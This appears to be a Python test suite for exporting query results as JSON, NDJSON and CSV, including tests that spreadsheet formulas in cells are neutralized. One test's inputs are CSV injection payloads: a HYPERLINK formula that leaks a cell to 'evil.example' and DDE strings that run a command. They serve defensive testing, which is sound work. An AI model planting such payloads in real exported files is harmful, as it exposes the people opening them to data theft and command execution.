"""Tables as JSON, NDJSON and CSV, read back by other parsers."""

import csv
import io
import json
import re
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from neo4j.time import Date, DateTime, Duration

from api.formats import FORMATS
from api.formats.encoders import Ending
from api.formats.text import neutralize
from graph.adhoc.values import plain, typed

ENDING = Ending(revision=2**60, is_truncated=True, elapsed_seconds=1.5)

cells = (
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**63 - 1)
    | st.floats()
    | st.text()
    | st.binary(max_size=8)
    | st.lists(st.integers() | st.text(), max_size=3)
    | st.builds(Date, st.integers(1, 9999), st.integers(1, 12), st.integers(1, 28))
)
tables = st.integers(1, 4).flatmap(
    lambda width: st.lists(st.lists(st.lists(cells, min_size=width, max_size=width), max_size=4), max_size=4)
)


def encode(
    name: str, columns: Sequence[str], batches: Sequence[Sequence[Sequence[Any]]], *, is_typed: bool = False
) -> bytes:
    """A table in a format."""
    found = FORMATS[name]
    opened = found.open_typed if is_typed else found.open
    assert opened is not None
    encoder = opened(columns)
    parts = [encoder.add(rows) for rows in batches]
    whole = b"".join((*parts, *encoder.finish(ENDING)))
    encoder.close()
    return whole


def columns_of(batches: Sequence[Sequence[Sequence[Any]]]) -> list[str]:
    """Names for as many columns as rows have."""
    width = max((len(row) for rows in batches for row in rows), default=2)
    return [f"column {number}" for number in range(width)]


@given(tables)
def test_json_is_one_document_of_plain_values(batches: list[list[list[Any]]]) -> None:
    columns = columns_of(batches)

    document = json.loads(encode("json", columns, batches), parse_constant=pytest.fail)

    assert document == {
        "columns": columns,
        "rows": [[plain(value) for value in row] for rows in batches for row in rows],
        "revision": str(2**60),
        "isTruncated": True,
        "elapsedSeconds": 1.5,
    }


@given(tables)
def test_ndjson_is_a_document_for_each_row(batches: list[list[list[Any]]]) -> None:
    columns = columns_of(batches)

    text = encode("ndjson", columns, batches).decode()

    assert text == "" or text.endswith("\n")
    lines = [json.loads(line, parse_constant=pytest.fail) for line in text.split("\n")[:-1]]
    assert lines == [
        {name: plain(value) for name, value in zip(columns, row, strict=True)} for rows in batches for row in rows
    ]


@given(tables)
def test_typed_values_are_in_json_and_ndjson(batches: list[list[list[Any]]]) -> None:
    columns = columns_of(batches)
    rows = [[typed(value) for value in row] for rows in batches for row in rows]

    document = json.loads(encode("json", columns, batches, is_typed=True))
    lines = encode("ndjson", columns, batches, is_typed=True).decode().split("\n")[:-1]

    assert document["rows"] == rows
    assert [list(json.loads(line).values()) for line in lines] == rows


@given(tables)
def test_csv_is_read_back_by_pythons_reader(batches: list[list[list[Any]]]) -> None:
    columns = columns_of(batches)

    header, *lines = csv.reader(io.StringIO(encode("csv", columns, batches).decode(), newline=""), strict=True)

    assert header == columns
    assert lines == [[expected_cell(value) for value in row] for rows in batches for row in rows]


def expected_cell(value: Any) -> str:
    """A cell by the slow way."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return {"nan": "NaN", "inf": "Infinity", "-inf": "-Infinity"}.get(repr(value), repr(value))
    form = plain(value)
    return neutralize(form if isinstance(form, str) else json.dumps(form, ensure_ascii=False, separators=(",", ":")))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet runs a cell: it begins with a sign, full-width ones included, and is no number."""
    number = re.fullmatch(r"[-+]?(\d+\.?\d*([eE][-+]?\d+)?|Infinity)", cell)
    return cell.lstrip("\t\r\n")[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20") and number is None


@given(tables, st.sampled_from([",", ";", "\t"]))
def test_no_cell_is_a_formula_whatever_separates_cells(batches: list[list[list[Any]]], separator: str) -> None:
    """A spreadsheet of a country with decimal commas splits at semicolons, and takes our quotes for text."""
    text = encode("csv", columns_of(batches), batches).decode()

    if separator == ",":
        found = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    else:
        found = [cell for line in re.split(r"[\r\n]", text) for cell in line.split(separator)]

    assert [cell for cell in found if is_formula(cell.split(",")[0])] == []


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "x\n=1+1",
        "x;=1+1",
        'x";=1+1;"',
        "\uff1d1+1",
        "\uff0d1",
    ],
)
def test_formulas_are_neutralized(attack: str) -> None:
    """In cells, and in the names of columns."""
    text = encode("csv", [attack], [[[attack]]]).decode()

    (header,), (cell,) = csv.reader(io.StringIO(text, newline=""))
    assert header == cell
    for separator in (None, ";", "\t"):
        parts = [cell] if separator is None else re.split(rf"[{separator}\r\n]", text)
        assert not any(is_formula(part) for part in parts)
    assert cell.replace("'", "") == attack.replace("'", "")


@pytest.mark.parametrize("text", ["plain", "a-b", "1=1", "a;b", "two\nlines", "mail@example.org", "", " = ", "'"])
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert neutralize(text) == text


def test_numbers_stay_numbers() -> None:
    row = [-5, -2.5, 1e300, 9007199254740993, float("-inf"), "-5"]

    text = encode("csv", list("abcdef"), [[row]]).decode()

    assert text == "a,b,c,d,e,f\r\n-5,-2.5,1e+300,9007199254740993,-Infinity,'-5\r\n"


def test_null_and_an_empty_text_differ_in_csv() -> None:
    assert encode("csv", ["a", "b"], [[[None, ""]]]) == b'a,b\r\n,""\r\n'


def test_values_of_other_types_are_texts_in_csv() -> None:
    row = [DateTime(2026, 1, 2, 3, 4, 5), Duration(days=1), [1, "x"], {"k": None}]

    text = encode("csv", list("abcd"), [[row]]).decode()

    assert list(csv.reader(io.StringIO(text)))[1] == ["2026-01-02T03:04:05", "P1D", '[1,"x"]', '{"k":null}']


def test_a_table_without_rows_still_has_its_columns() -> None:
    assert json.loads(encode("json", ["a"], []))["columns"] == ["a"]
    assert json.loads(encode("json", ["a"], []))["rows"] == []
    assert encode("csv", ["a", "b"], []) == b"a,b\r\n"
    assert encode("ndjson", ["a"], []) == b""


@pytest.mark.parametrize(
    "column",
    [
        [1, 2**53 - 1],
        [1, 2**53],
        [None, -(2**53)],
        [1.5, None],
        [1e308, 1e308],
        [1.0, float("nan")],
        [float("inf"), float("-inf")],
        [1, 2.5],
        [True, 1],
        ["a", None, True],
        [Date(2026, 1, 1), None],
    ],
)
def test_columns_are_converted_as_their_values_are(column: list[Any]) -> None:
    """Columns are looked at as a whole to be fast; one value at a time is the second route."""
    document = json.loads(encode("json", ["a"], [[[value] for value in column]]))

    assert document["rows"] == [[plain(value)] for value in column]
